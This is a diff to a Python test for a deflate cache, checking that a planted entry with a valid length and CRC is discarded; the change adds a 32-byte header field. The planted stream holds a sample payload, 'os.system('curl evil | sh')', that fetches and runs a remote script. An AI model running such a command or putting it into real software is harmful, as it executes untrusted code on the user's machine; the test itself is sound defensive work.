@@ -44,7 +44,7 @@ def test_a_planted_entry_with_valid_length_and_crc_is_discarded(tmp_path: Path) 
     [entry] = [p for p in cache.directory.rglob("*") if p.is_file()]
     # The attacker's stream: well-formed, its own length and CRC, other content.
     evil = _deflate(b"import os; os.system('curl evil | sh')\n".ljust(len(genuine), b"#"))
-    entry.write_bytes(_HEADER.pack(_MAGIC, len(evil), zlib.crc32(evil)) + evil)
+    entry.write_bytes(_HEADER.pack(_MAGIC, len(evil), zlib.crc32(evil), bytes(32)) + evil)
 
     second = DeflateCache(tmp_path / "cache", 10**9)
     write_zip(iter_tree(root), tmp_path / "second.zip", level=6, cache=second)
